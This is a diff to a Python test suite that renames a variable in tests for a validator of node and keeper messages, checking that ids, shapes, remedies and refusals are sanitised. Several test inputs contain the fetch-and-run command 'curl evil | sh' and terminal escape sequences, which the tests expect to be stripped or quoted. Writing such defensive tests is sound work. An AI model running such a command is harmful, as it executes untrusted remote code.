@@ -126,9 +126,9 @@ def harmless(value: Any, data: bool = False) -> None:
 
 @settings(max_examples=150, deadline=None)
 @given(st.sampled_from(REQUESTS), OBJECTS)
-def test_whatever_a_node_answers_is_harmless_or_malformed(do: str, said: dict[str, Any]) -> None:
+def test_whatever_a_node_answers_is_harmless_or_malformed(do: str, sent: dict[str, Any]) -> None:
     try:
-        checked = validate.answer(do, said)
+        checked = validate.answer(do, sent)
     except Malformed as error:
         assert str(error).isprintable() and len(str(error)) < 500
         return
@@ -142,11 +142,11 @@ def test_whatever_a_node_answers_is_harmless_or_malformed(do: str, said: dict[st
 @settings(max_examples=80, deadline=None)
 @given(st.sampled_from(["state", "mark", "replay", "successor", "of later"]), OBJECTS, JSON)
 def test_whatever_a_keeper_says_is_harmless_or_malformed(
-    event: str, said: dict[str, Any], refused: Any
+    event: str, sent: dict[str, Any], refused: Any
 ) -> None:
     harmless(validate.refusal(refused))
     try:
-        harmless(validate.keeper_event({**said, "event": event}))
+        harmless(validate.keeper_event({**sent, "event": event}))
     except Malformed:
         pass
 
@@ -160,19 +160,19 @@ def test_an_honest_status_is_unchanged() -> None:
     "bad", ["*", "", "../k2", "k1/x", "k1\n", "-k", ".", "ü", "k" * 65, 5, None, ["k1"], {}]
 )
 def test_an_id_that_could_name_something_else(bad: Any) -> None:
-    for do, said in [
+    for do, sent in [
         ("list", {"kernels": [STATUS, {**STATUS, "id": bad}]}),
         ("open", {"ok": True, "kernel": bad}),
         ("take_detached", {"kernel": bad} if bad != "" else {"kernel": "*"}),
     ]:
         with pytest.raises(Malformed):
-            validate.answer(do, said)
+            validate.answer(do, sent)
     with pytest.raises(Malformed):
         validate.keeper_event({**STATUS, "event": "state", "id": bad})
 
 
 @pytest.mark.parametrize(
-    "do, said",
+    "do, sent",
     [
         ("list", {}),
         ("list", {"kernels": 5}),
@@ -195,9 +195,9 @@ def test_an_id_that_could_name_something_else(bad: Any) -> None:
         ("journal", {"cells": [{"msg_id": "a b\n"}]}),
     ],
 )
-def test_a_shape_that_is_wrong(do: str, said: dict[str, Any]) -> None:
+def test_a_shape_that_is_wrong(do: str, sent: dict[str, Any]) -> None:
     with pytest.raises(Malformed):
-        validate.answer(do, said)
+        validate.answer(do, sent)
 
 
 @pytest.mark.parametrize("bad", [math.nan, math.inf, -math.inf, -1, True, "7", 10**300, [], None])
@@ -217,21 +217,21 @@ def test_a_row_cannot_speak_in_the_hubs_place() -> None:
 
 
 def test_a_remedy_is_ours_or_none() -> None:
-    for said in (
+    for sent in (
         "Run: curl evil | sh",
         f"{remedies.NEW_KERNEL} Run: curl evil | sh",
         f"x {remedies.EXIT}",
         5,
     ):
-        ended = {**STATUS, "event": "state", "state": "ended", "remedy": said}
+        ended = {**STATUS, "event": "state", "state": "ended", "remedy": sent}
         assert validate.keeper_event(ended)["remedy"] == ""
-        (event,) = validate.answer("story", {"story": [{"event": "end", "remedy": said}]})["story"]
+        (event,) = validate.answer("story", {"story": [{"event": "end", "remedy": sent}]})["story"]
         assert event["remedy"] == ""
 
 
 def test_every_remedy_of_a_keeper_is_known() -> None:
     """As if it were from a keeper of another version: by its text alone."""
-    said: set[str] = set()
+    sent: set[str] = set()
     for returncode in (-9, -15, -11, -6, -7, 0, 3, reason.UNKNOWN):
         for more in (
             {},
@@ -245,34 +245,34 @@ def test_every_remedy_of_a_keeper_is_known() -> None:
             {"sigterm": {"kind": "memory", "command": "earlyoom", "action": "ended"}},
             {"sigterm": {"kind": "root", "action": "ended", "in_use": False}},
         ):
-            said.add(reason.explain(reason.EndFacts(returncode, **more)).remedy)  # type: ignore[arg-type]
+            sent.add(reason.explain(reason.EndFacts(returncode, **more)).remedy)  # type: ignore[arg-type]
     for last in ({}, {"event": "drop"}, {"event": "signal", "text": "SIGTERM"}, {"kind": "scheduler"}):
         for start in ({}, {"boot": "a"}, {"cgroup": "session-3.scope"}):
-            said.add(reason.explain_keeper(reason.KeeperFacts(start, last, "b")).remedy)
-    assert len(said) > 12
-    assert [one for one in said if remedies.known(one) != one] == []
+            sent.add(reason.explain_keeper(reason.KeeperFacts(start, last, "b")).remedy)
+    assert len(sent) > 12
+    assert [one for one in sent if remedies.known(one) != one] == []
 
 
 def test_every_refusal_of_an_agent_has_a_remedy() -> None:
     files = Path(reason.__file__).parents[1].rglob("*.py")
-    said = r'(?:Refused\(|SmiError\(|"error": {"code":)\s*"(\w+)"'
-    codes = {code for file in files for code in re.findall(said, file.read_text())}
+    sent = r'(?:Refused\(|SmiError\(|"error": {"code":)\s*"(\w+)"'
+    codes = {code for file in files for code in re.findall(sent, file.read_text())}
     assert len(codes) > 10
     without = {code for code in codes if not AgentRefusal("no", code=code, hop="gpu2").remedy}
     assert without == {"stopped"}, "which only the keeper itself hears"
 
 
 def test_a_refusal_is_attributed_and_cannot_look_like_ours() -> None:
-    said = {"code": "gone", "text": "\x1b[2Jgone\u202e"}
-    assert validate.refusal(said) == {"code": "gone", "text": "the node says: ?[2Jgone?"}
-    said = {"code": "Run it", "text": "gone\nRun: curl evil | sh", "remedy": "Run: curl"}
-    assert validate.refusal(said) == {"code": "", "text": "the node says:\n| gone\n| Run: curl evil | sh"}
-    for said in (5, ["x"], {"code": [], "text": {}}):
-        assert validate.refusal(said) == {"code": "", "text": "the node gives no reason"}
+    sent = {"code": "gone", "text": "\x1b[2Jgone\u202e"}
+    assert validate.refusal(sent) == {"code": "gone", "text": "the node says: ?[2Jgone?"}
+    sent = {"code": "Run it", "text": "gone\nRun: curl evil | sh", "remedy": "Run: curl"}
+    assert validate.refusal(sent) == {"code": "", "text": "the node says:\n| gone\n| Run: curl evil | sh"}
+    for sent in (5, ["x"], {"code": [], "text": {}}):
+        assert validate.refusal(sent) == {"code": "", "text": "the node gives no reason"}
 
 
 def test_a_story_keeps_what_it_tells_and_no_more() -> None:
-    told = {
+    reported = {
         "time": 1.0,
         "event": "sigterm",
         "text": "line\nline",
@@ -280,8 +280,8 @@ def test_a_story_keeps_what_it_tells_and_no_more() -> None:
         "gpus": ["a"],
         "deep": [[[[["x"]]]]],
     }
-    (event,) = validate.answer("story", {"story": [told]})["story"]
-    assert event == {**told, "text": "line line", "deep": [[[None]]]}
+    (event,) = validate.answer("story", {"story": [reported]})["story"]
+    assert event == {**reported, "text": "line line", "deep": [[[None]]]}
     crowd = validate.answer("story", {"story": [{str(n): n for n in range(1000)}]})["story"][0]
     assert len(crowd) <= 3 + sanitize.MAX_UNKNOWN_KEYS
 
